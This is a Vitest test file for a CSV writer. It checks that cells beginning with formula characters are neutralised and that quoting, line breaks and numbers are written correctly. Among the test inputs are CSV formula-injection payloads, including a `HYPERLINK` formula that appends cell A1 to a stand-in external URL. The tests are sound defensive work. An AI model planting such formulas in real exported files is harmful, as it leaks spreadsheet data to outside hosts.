import { describe, expect, it } from 'vitest';

import { csvCell, csvLine } from './csv';

describe('a field of a CSV file', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['=HYPERLINK("https://x.example?"&A1)', `"'=HYPERLINK(""https://x.example?""&A1)"`],
    ['+1', `"'+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ['\n=1', `"'\n=1"`],
    ['\uff1d1', `"'\uff1d1"`],
  ])('never runs %j as a formula', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "no"', '"say ""no"""'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    ['a=b', 'a=b'],
    ['žluťoučký', 'žluťoučký'],
  ])('writes %j so that it is read back', (text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('writes numbers as they are, negative ones too, and nothing for what is not there', () => {
    expect(csvLine([-7, null, 'x'])).toBe('-7,,x\r\n');
  });
});
